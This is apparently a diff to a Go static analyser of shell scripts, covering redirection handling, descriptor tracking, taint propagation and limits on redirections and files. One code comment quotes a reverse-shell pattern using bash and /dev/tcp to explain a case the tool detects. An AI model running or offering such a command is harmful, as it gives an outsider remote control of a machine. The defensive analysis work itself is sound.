@@ -29,9 +29,16 @@ const (
 	elsewhere // to a descriptor or a file that is not known
 )
 
+// maxRedirects bounds the redirections of one command.
+const maxRedirects = 100
+
 // redirects resolves redirections and notes them and their effects in inv.
 func (r *reader) redirects(s *state, list []*syntax.Redirect, inv *command.Invocation) redirection {
 	var red redirection
+	if len(list) > maxRedirects {
+		r.gap("too many redirections", inv.Span)
+		list = list[:maxRedirects]
+	}
 	for _, rd := range list {
 		fd := ""
 		if rd.N != nil {
@@ -70,10 +77,9 @@ func (r *reader) redirects(s *state, list []*syntax.Redirect, inv *command.Invoc
 
 // target expands the word of a redirection, which must be one word.
 func (r *reader) target(s *state, w *syntax.Word) command.Word {
-	var buf [2]command.Word
-	words := r.fields(s, w, buf[:0])
-	if len(words) == 1 {
-		return words[0]
+	var words words
+	if r.fields(s, w, ordinary, &words); len(words.list) == 1 {
+		return words.list[0]
 	}
 	// Bash calls this ambiguous and does not run the command.
 	return command.Word{Span: r.nodeSpan(w)}
@@ -86,8 +92,7 @@ func (r *reader) connect(s *state, red *redirection, inv *command.Invocation, fd
 		inv.Stdin = d
 		return
 	}
-	s.own()
-	s.fds = append(s.fds, descriptor{n: fd, data: d})
+	s.open(fd, d)
 }
 
 // handsSecret notes that a here-document holds a variable named like a secret, as
@@ -139,7 +144,7 @@ func (r *reader) heredocValue(s *state, rd *syntax.Redirect, tabs bool) command.
 	for i, p := range rd.Hdoc.Parts {
 		l, ok := p.(*syntax.Lit)
 		if !ok {
-			list = r.pieces(s, []syntax.WordPart{p}, true, false, list)
+			list = r.pieces(s, []syntax.WordPart{p}, true, literal, list)
 			continue
 		}
 		text := l.Value
@@ -207,7 +212,7 @@ func (r *reader) redirect(s *state, rd *syntax.Redirect, out command.Redirect, i
 			d := command.Data{Reach: tool.Exact}
 			switch w.Text {
 			case "/dev/stdin", "/dev/fd/0":
-				return
+				d = s.stdin
 			case "/dev/null":
 			default:
 				d = r.descriptor(s, strings.TrimPrefix(w.Text, "/dev/fd/"), w.Text)
@@ -240,10 +245,9 @@ func (r *reader) redirect(s *state, rd *syntax.Redirect, out command.Redirect, i
 			fd, red.stdout = "1", discarded
 		}
 		// What is sent there can be answered: bash -i >& /dev/tcp/HOST/PORT 0>&1.
-		s.own()
-		s.fds = append(s.fds, descriptor{n: fd, data: d})
+		s.open(fd, d)
 		if rd.Op != syntax.RdrOut && rd.Op != syntax.AppOut {
-			s.fds = append(s.fds, descriptor{n: "2", data: d}) // >& and &> are both streams
+			s.open("2", d) // >& and &> are both streams
 		}
 		return
 	}
@@ -327,6 +331,9 @@ func (r *reader) duplicate(s *state, rd *syntax.Redirect, out command.Redirect, 
 		if w.IsPlain() {
 			if output && (out.Fd == "" || out.Fd == "1") {
 				red.stdout = elsewhere
+			} else if !output || out.Fd == "0" {
+				fd := out.Fd
+				r.connect(s, red, inv, fd, s.anyDescriptor())
 			}
 			return true
 		}
@@ -357,8 +364,7 @@ func (r *reader) duplicate(s *state, rd *syntax.Redirect, out command.Redirect, 
 				r.connect(s, red, inv, "", command.Data{None: true})
 			}
 		case !output || output && out.Fd != "2":
-			s.own()
-			s.fds = append(s.fds, descriptor{n: out.Fd, data: r.descriptor(s, digits, "/dev/fd/"+digits)})
+			s.open(out.Fd, r.descriptor(s, digits, "/dev/fd/"+digits))
 		}
 		return true
 	}
@@ -371,26 +377,34 @@ func (r *reader) descriptor(s *state, n, path string) command.Data {
 	if n == "0" {
 		return s.stdin
 	}
-	for i := len(s.fds) - 1; i >= 0; i-- {
-		if s.fds[i].n == n {
-			return s.fds[i].data
-		}
+	if d := s.descriptor(n); d != nil {
+		return d.data
 	}
 	for i := len(r.procs) - 1; i >= 0; i-- {
 		if r.procs[i].path == path {
 			return r.procs[i].data
 		}
 	}
-	return command.Data{}
+	return s.anyDescriptor()
+}
+
+// anyDescriptor is what can be read from a descriptor that is not known.
+func (s *state) anyDescriptor() command.Data {
+	d := command.Data{Taint: s.stdin.Taint}
+	for _, have := range s.fds {
+		d.Taint |= have.data.Taint
+	}
+	return d
 }
 
 // content is what is known of the content of a file.
 func (r *reader) content(s *state, w, dir command.Word) command.Data {
 	d := command.Data{Taint: command.FromFile, Path: &w, Endless: w.IsKnown() && command.EndlessDevice(w.Text)}
 	if !w.IsKnown() || dir.Reach != tool.Exact && !strings.HasPrefix(w.Text, "/") {
-		for _, f := range s.files {
+		s.files.each(func(_ string, f *file) bool {
 			d.Taint |= f.data.Taint
-		}
+			return true
+		})
 		return d
 	}
 	if f := s.wrote(value.Clean(dir.Text, w.Text)); f != nil {
@@ -405,40 +419,51 @@ func (r *reader) content(s *state, w, dir command.Word) command.Data {
 // an invocation without words.
 func (r *reader) redirected(st *syntax.Stmt, s *state, run func(*state) []*state) []*state {
 	inv := r.invocation(s, st, nil)
-	fds := len(s.fds)
+	before := s.fork()
 	// The commands inside print something, as far as the file is concerned.
 	inv.Words = []command.Word{command.Known("", tool.Span{})}
 	red := r.redirects(s, st.Redirs, inv)
 	inv.Words = nil
 	inv.Output = command.Data{Reach: tool.Exact}
-	if len(inv.Effects) > 0 && r.known(st, inv) == nil {
+	if len(inv.Effects) > 0 && r.known(st, inv, s) == nil {
 		r.throughLinks(s, inv)
 		r.list1(inv)
-		r.remember(st, inv)
+		r.remember(st, inv, s)
 	}
-	undone := s.fork().end(false) // a redirection may fail
-	stdin, out := s.stdin, s.out
+	numbers := redirected(st.Redirs)
+	undone := s.fork().decide(false) // a redirection may fail
 	if red.reads {
 		s.stdin = red.stdin
 	}
-	s.out = command.Data{Reach: tool.Exact}
+	s.out, s.shown = command.Data{Reach: tool.Exact}, s.shown && red.stdout == toParent
 	states := run(s)
-	for _, e := range states {
+	for i, e := range states {
+		e = e.fork()
+		states[i] = e
 		printed := e.out
-		e.out = out
+		e.out, e.shown = before.out, before.shown
 		if red.reads {
-			e.stdin = stdin
+			e.stdin = before.stdin
 		}
-		if len(e.fds) > fds {
-			e.fds = e.fds[:fds:fds]
-		}
+		e.reopen(before.fds, numbers)
 		r.send(e, printed, red)
 	}
-	if len(inv.Effects) > 0 {
-		undone.fds = undone.fds[:fds:fds]
-		states = append(states, undone)
+	undone.reopen(before.fds, numbers)
+	return r.settle(append(states, undone))
+}
+
+// redirected are the descriptors that redirections open for a command alone.
+func redirected(list []*syntax.Redirect) (numbers []string) {
+	for _, rd := range list {
+		if rd.N != nil && !strings.HasPrefix(rd.N.Value, "{") {
+			numbers = append(numbers, rd.N.Value)
+		}
+		switch rd.Op {
+		case syntax.RdrAll, syntax.AppAll, syntax.DplOut:
+			numbers = append(numbers, "1", "2")
+		}
 	}
-	return settle(states)
+	return numbers
 }
 
 // deliver sends what an invocation prints where it goes.
@@ -449,34 +474,43 @@ func (r *reader) deliver(s *state, inv *command.Invocation, red redirection) {
 	}
 }
 
+// fileFor is a file that is written, as long as there are not too many of them.
+func (r *reader) fileFor(s *state, path string) *file {
+	if s.files.size() > maxFiles && s.wrote(path) == nil {
+		r.gap("too many files", tool.Span{})
+		return &file{}
+	}
+	return s.file(path)
+}
+
 func (r *reader) send(s *state, d command.Data, red redirection) {
 	if red.stdout == toFile || red.stdout == elsewhere {
 		r.swells(d)
 	}
 	switch red.stdout {
 	case toParent:
-		s.out = s.out.Then(d)
+		if !s.shown {
+			s.out = s.out.Then(d)
+		} else if d.Endless {
+			r.swells(d)
+		}
 	case elsewhere:
 		s.out = s.out.Then(command.Data{Taint: d.Taint})
 		if red.file != "" { // a file that is not known exactly
-			s.own()
-			s.files = append(s.files, file{path: red.file, data: command.Data{Taint: d.Taint | command.FromScript}, authored: authored(d), edited: true})
+			f := r.fileFor(s, red.file)
+			f.data = command.Data{Taint: f.data.Taint | d.Taint | command.FromScript}
+			f.authored, f.edited = f.authored || authored(d), true
 		}
 	case toFile:
-		s.own()
-		f := s.wrote(red.file)
-		if f == nil {
-			s.files = append(s.files, file{path: red.file})
-			f = &s.files[len(s.files)-1]
-			f.authored = authored(d)
-			if red.add {
-				d = command.Data{Taint: command.FromFile}.Then(d)
+		had := s.wrote(red.file) != nil
+		f := r.fileFor(s, red.file)
+		f.authored = had && f.authored && red.add || authored(d)
+		if red.add {
+			old := command.Data{Taint: command.FromFile}
+			if had {
+				old = f.data
 			}
-		} else {
-			f.authored = f.authored && red.add || authored(d)
-			if red.add {
-				d = f.data.Then(d)
-			}
+			d = old.Then(d)
 		}
 		f.edited = true
 		d.Taint |= command.FromScript
